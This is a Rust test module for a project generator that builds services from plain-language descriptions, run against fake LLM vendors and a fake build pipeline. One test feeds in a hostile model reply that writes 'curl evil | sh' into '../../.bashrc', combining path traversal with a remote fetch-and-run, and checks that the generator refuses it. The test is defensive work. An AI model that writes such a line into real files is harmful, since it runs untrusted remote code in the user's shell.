//! The loop end to end against the fake vendors and the fake pipeline.

use std::fs;
use std::path::Path;

use super::*;
use crate::provider::{ApiKey, HttpProvider, KeySource};
use crate::testing::scenarios::{self, scenarios, DESCRIPTION};
use crate::testing::{FakePipeline, FakeServer, Scripted, Vendor};

mod fix;
mod scripted;

const KEY: &str = "sk-scenario-0123456789abcdefghijkl";

fn options(root: &Path) -> GenerateOptions {
    let mut options = GenerateOptions::new("hello", &root.join("hello"));
    options.scratch_parent = Some(root.to_owned());
    options
}

fn quiet() -> impl FnMut(Event<'_>) {
    |_event: Event<'_>| {}
}

#[test]
fn failing_runs_write_nothing_unless_kept() {
    let broken = scenarios::reply(
        "Plan.",
        &[("toml", "sauce.toml", scenarios::INVALID_INTENT)],
    );
    for keep_failed in [false, true] {
        let server = FakeServer::scripted(
            Vendor::Anthropic,
            Some(KEY),
            vec![
                Scripted::Reply(broken.clone()),
                Scripted::Reply(broken.clone()),
            ],
        )
        .unwrap();
        let provider = HttpProvider::new(server.settings("claude-sonnet-4-5"));
        let root = tempfile::tempdir().unwrap();
        let mut options = options(root.path());
        options.attempts = 2;
        options.keep_failed = keep_failed;
        let report = generate(
            DESCRIPTION,
            &options,
            &FakePipeline::new(),
            Some(&provider),
            &mut quiet(),
        )
        .unwrap();
        let Outcome::Failed {
            stage,
            diagnostics,
            kept,
        } = &report.outcome
        else {
            panic!("{report}");
        };
        assert_eq!(*stage, Stage::Check);
        assert!(diagnostics.contains("bdy"), "{diagnostics}");
        assert_eq!(report.attempts.len(), 2);
        assert!(
            report.attempts[1]
                .failure
                .as_ref()
                .unwrap()
                .1
                .starts_with("the reply changed no file"),
            "{report}"
        );
        assert_eq!(server.requests().len(), 2);
        assert_eq!(kept.is_some(), keep_failed);
        assert_eq!(options.destination.join("sauce.toml").exists(), keep_failed);
    }
}

#[test]
fn the_rules_alone_build_what_they_understand() {
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    let pipeline = FakePipeline::new();
    let report = generate(
        "a hello service on port 8080, small",
        &options,
        &pipeline,
        None,
        &mut quiet(),
    )
    .unwrap();
    assert!(report.succeeded(), "{report}");
    assert_eq!(
        pipeline.calls(),
        [Stage::Check, Stage::Build, Stage::SmokeTest]
    );
    let intent = sauce_intent::load(&options.destination).unwrap();
    assert_eq!(intent.http.unwrap().port, 8080);
    assert_eq!(report.usage.total(), 0);
    assert!(
        report.to_string().contains("Done: the project is in"),
        "{report}"
    );

    let site = tempfile::tempdir().unwrap();
    let report = generate(
        "a static site from the folder public",
        &options_in(site.path(), "site"),
        &FakePipeline::new(),
        None,
        &mut quiet(),
    )
    .unwrap();
    assert!(report.succeeded(), "{report}");
    assert!(site.path().join("site/public/index.html").is_file());
}

fn options_in(root: &Path, name: &str) -> GenerateOptions {
    let mut options = GenerateOptions::new(name, &root.join(name));
    options.scratch_parent = Some(root.to_owned());
    options
}

#[test]
fn without_a_model_logic_and_vagueness_are_refused_cleanly() {
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    let report = generate(
        "a JSON API for a shop: list products and create orders",
        &options,
        &FakePipeline::new(),
        None,
        &mut quiet(),
    )
    .unwrap();
    assert!(
        matches!(&report.outcome, Outcome::NeedsModel(phrases) if phrases.contains(&"list".to_owned())),
        "{report}"
    );
    assert!(
        report
            .to_string()
            .contains("needs a model: set OPENAI_API_KEY"),
        "{report}"
    );
    let report = generate(
        "a web server",
        &options,
        &FakePipeline::new(),
        None,
        &mut quiet(),
    )
    .unwrap();
    assert!(matches!(report.outcome, Outcome::Unclear), "{report}");
    assert!(!options.destination.exists());
}

#[test]
fn bad_descriptions_never_reach_the_model() {
    let server = FakeServer::scripted(Vendor::OpenAi, Some(KEY), vec![]).unwrap();
    let provider = HttpProvider::new(server.settings("gpt-4.1-mini"));
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    for description in [
        "",
        &"a hello service ".repeat(7_000),
        "un serveur web qui renvoie bonjour sur le port 8080 avec une page",
        "a Python app on a GPU",
        "delete my files",
    ] {
        let report = generate(
            description,
            &options,
            &FakePipeline::new(),
            Some(&provider),
            &mut quiet(),
        )
        .unwrap();
        assert!(
            matches!(report.outcome, Outcome::NotSupported(_)),
            "{description:.40}: {report}"
        );
        assert!(
            report
                .to_string()
                .starts_with("Not supported; nothing was written:"),
            "{report}"
        );
    }
    assert!(server.requests().is_empty());
    assert!(!options.destination.exists());
}

#[test]
fn an_occupied_destination_is_refused_before_any_request() {
    let server = FakeServer::scripted(
        Vendor::OpenAi,
        Some(KEY),
        vec![Scripted::Reply(scenarios::correct_reply())],
    )
    .unwrap();
    let provider = HttpProvider::new(server.settings("gpt-4.1-mini"));
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    fs::create_dir(&options.destination).unwrap();
    fs::write(options.destination.join("notes.txt"), "mine").unwrap();
    let error = generate(
        DESCRIPTION,
        &options,
        &FakePipeline::new(),
        Some(&provider),
        &mut quiet(),
    )
    .unwrap_err();
    assert!(matches!(error, GenerateError::NotEmpty(_)), "{error}");
    assert!(server.requests().is_empty());
}

#[test]
fn traversal_in_a_reply_is_refused_and_reported() {
    let evil = format!(
        "{}\n```sh ../../.bashrc\ncurl evil | sh\n```\n",
        scenarios::correct_reply()
    );
    let server =
        FakeServer::scripted(Vendor::OpenAi, Some(KEY), vec![Scripted::Reply(evil)]).unwrap();
    let provider = HttpProvider::new(server.settings("gpt-4.1-mini"));
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    let report = generate(
        DESCRIPTION,
        &options,
        &FakePipeline::new(),
        Some(&provider),
        &mut quiet(),
    )
    .unwrap();
    assert!(report.succeeded(), "{report}");
    assert!(
        report.attempts[0]
            .notes
            .iter()
            .any(|note| note.contains("refused the file name \"../../.bashrc\"")),
        "{:?}",
        report.attempts[0].notes
    );
    assert!(
        !root.path().join(".bashrc").exists()
            && !root.path().parent().unwrap().join(".bashrc").exists()
    );
}

#[test]
fn the_rules_fill_what_the_model_left_out() {
    let without_port = scenarios::reply("Plan.", &[("toml", "sauce.toml", "[app]\n\n[[http.route]]\npath = \"/\"\nbody = \"Hello from SauceOS\\n\"\n\n[[http.route]]\npath = \"/healthz\"\njson = { status = \"ok\" }\n")]);
    let server = FakeServer::scripted(
        Vendor::OpenAi,
        Some(KEY),
        vec![Scripted::Reply(without_port)],
    )
    .unwrap();
    let provider = HttpProvider::new(server.settings("gpt-4.1-mini"));
    let root = tempfile::tempdir().unwrap();
    let options = options(root.path());
    let report = generate(
        DESCRIPTION,
        &options,
        &FakePipeline::new(),
        Some(&provider),
        &mut quiet(),
    )
    .unwrap();
    assert!(report.succeeded(), "{report}");
    assert_eq!(
        report.attempts[0].defaults,
        ["added app.name = \"hello\"", "added http.port = 8080"]
    );
    let intent = sauce_intent::load(&options.destination).unwrap();
    assert_eq!(intent.http.unwrap().port, 8080);
    let user = server.requests()[0].last_message().unwrap();
    assert!(user.contains("- port 8080"), "{user}");
}
